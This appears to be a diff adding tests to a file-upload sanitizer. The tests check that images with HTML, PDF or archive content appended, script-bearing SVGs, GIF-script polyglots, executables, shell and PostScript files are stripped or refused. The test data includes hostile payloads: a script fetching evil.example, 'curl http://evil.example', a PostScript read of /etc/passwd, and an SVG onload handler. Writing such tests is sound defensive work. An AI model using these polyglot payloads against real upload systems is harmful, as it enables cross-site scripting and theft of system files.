@@ -332,3 +332,53 @@ test.each(refused)('%s is refused', async (_what, bytes) => {
   const result = await cleanFile('loiDocument', bytes)
   expect(result.ok).toBe(false)
 })
+
+const picturePng = await buildPicture('png')
+const pictureJpg = await buildPicture('jpeg')
+const payload = '<script>fetch("http://evil.example")</script>'
+
+/** A picture that is another kind of file as well: what is drawn anew holds the picture alone. */
+const doubles: readonly [what: string, bytes: Uint8Array][] = [
+  ['a page of HTML behind it', Buffer.concat([picturePng, Buffer.from(`<html>${payload}</html>`)])],
+  [
+    'an archive behind it',
+    Buffer.concat([pictureJpg, buildDocx({ 'evil.example': strToU8('x') })]),
+  ],
+  [
+    'a PDF behind it',
+    Buffer.concat([pictureJpg, buildPdf({ catalog: `/OpenAction << ${script} >>` })]),
+  ],
+  ['a script in its comment', withJpegComment(pictureJpg, payload)],
+]
+
+function withJpegComment(jpeg: Uint8Array, text: string): Buffer {
+  const comment = Buffer.from(text)
+  const head = Buffer.from([0xff, 0xfe, 0, comment.length + 2])
+  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)])
+}
+
+test.each(doubles)('a picture with %s keeps the picture and nothing else', async (_what, bytes) => {
+  const written = Buffer.from(await cleaned('photo', bytes)).toString('latin1')
+  expect(written).not.toMatch(/evil\.example|script|OpenAction/)
+})
+
+const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${payload}</svg>`
+
+const pretenders: readonly [what: string, bytes: Uint8Array][] = [
+  ['a vector picture with a script', Buffer.from(svg)],
+  ['a vector picture that says it is XML', Buffer.from(`<?xml version="1.0"?>${svg}`)],
+  ['a page of HTML', Buffer.from(`<!doctype html>${payload}`)],
+  ['a PDF that begins with HTML', Buffer.concat([Buffer.from(payload), buildPdf()])],
+  ['a GIF that is a script', Buffer.from(`GIF89a/*${payload}*/=0;`)],
+  ['a program', Buffer.from('MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode', 'latin1')],
+  ['a shell script', Buffer.from('#!/bin/sh\ncurl http://evil.example')],
+  ['a PostScript file', Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) (r) file')],
+  ['a rich text file with an object', Buffer.from('{\\rtf1{\\object\\objautlink evil.example}}')],
+  ['an archive that is no document', buildDocx({ 'a.txt': strToU8('x') }).subarray(0, 40)],
+]
+
+test.each(pretenders)('%s is taken under no kind', async (_what, bytes) => {
+  for (const kind of ['floorPlan', 'loiDocument', 'leaseDocument', 'photo'] as const) {
+    expect([kind, (await cleanFile(kind, bytes)).ok]).toEqual([kind, false])
+  }
+})
